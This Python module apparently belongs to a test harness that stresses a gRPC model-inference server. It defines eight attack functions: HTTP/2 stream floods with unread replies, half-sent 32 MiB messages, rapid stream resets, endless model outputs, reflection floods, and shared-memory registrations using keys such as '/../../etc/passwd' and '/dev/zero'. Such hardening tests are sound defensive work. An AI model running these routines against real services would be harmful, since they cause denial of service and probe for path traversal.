"""What a client may do to a server with streams, reflection and shared memory; hostile_client.py runs these."""

import struct

import numpy

import traffic
from raw_http2 import MIB, RST_STREAM, Connection, call_headers, frame, prefixed

STREAM = '/inference.GRPCInferenceService/ModelStreamInfer'
REFLECTION = '/grpc.reflection.v1.ServerReflection/ServerReflectionInfo'
REGISTER = '/inference.GRPCInferenceService/SystemSharedMemoryRegister'

# Of a model whose answers do not end.
ENDLESS = '''model_transaction_policy { decoupled: true }
    parameters { key: "repeat_count" value { string_value: "1000000" } }'''


def request(model='identity', values=16):
    return prefixed(traffic.message(model, numpy.zeros((1, values), numpy.float32)))


def send_on_streams(connection, stop, message, path=STREAM, streams=32):
    """The same message again and again, on so many streams in turn."""
    opened = [connection.open(call_headers(path=path)) for _ in range(streams)]
    while not stop.is_set():
        for i, stream in enumerate(opened):
            if not connection.data(stream, message, end=False, patience=0.05) and stream in connection.ended:
                opened[i] = connection.open(call_headers(path=path))
        connection.read()


def unread_streams(port, stop):
    """Large requests on streams whose answers are not read."""
    send_on_streams(Connection(port, window=0), stop, request('wide', 1 << 18))


def small_requests_on_a_stream(port, stop):
    """As many as the server takes, and all answers are read."""
    send_on_streams(Connection(port, window=(1 << 31) - 1), stop, request() * 50, streams=1)


def half_messages_on_streams(port, stop):
    """A whole message first, so that the stream is in use, and then half of a large one."""
    connection = Connection(port)
    while not stop.is_set():
        stream = connection.open(call_headers(path=STREAM))
        connection.data(stream, request() + prefixed(bytes(32 * MIB))[:-1], end=False)


def cancelled_streams(port, stop):
    """Streams with some requests each, reset at once."""
    connection = Connection(port)
    message = request() * 8
    while not stop.is_set():
        stream = connection.open(call_headers(path=STREAM))
        connection.data(stream, message, end=False)
        connection.send(frame(RST_STREAM, 0, stream, struct.pack('>I', 8)))
        connection.read()


def answers_without_end(port, stop):
    """A decoupled model's, of which none is read."""
    send_on_streams(Connection(port, window=0), stop, request('endless'))


def errors_without_end(port, stop):
    """Requests that are refused at once, on as many streams as there may be."""
    send_on_streams(Connection(port, window=0), stop, request('nobody') * 50, streams=1000)


def unread_reflection(port, stop):
    """Asks for all files again and again, and reads none."""
    symbol = b'inference.GRPCInferenceService'
    asked = prefixed(b'\x22' + bytes([len(symbol)]) + symbol)
    send_on_streams(Connection(port, window=0), stop, asked * 20, REFLECTION, streams=1000)


def registrations(port, stop):
    """Shared memory of all kinds of names and sizes."""
    connection = Connection(port)
    keys = [b'/x', b'/../../etc/passwd', b'', b'/' + b'k' * 4000, b'/dev/zero']
    sizes = [b'\x18\xff\xff\xff\xff\xff\xff\xff\xff\xff\x01', b'\x20\x01']
    while not stop.is_set():
        for key in keys:
            length = bytes([len(key) & 127 | 128, len(key) >> 7])
            message = b'\x0a\x01r\x12' + length + key + b''.join(sizes)
            connection.data(connection.open(call_headers(path=REGISTER)), prefixed(message))
            connection.read()


ATTACKS = [unread_streams, small_requests_on_a_stream, half_messages_on_streams, cancelled_streams, answers_without_end,
           errors_without_end, unread_reflection, registrations]
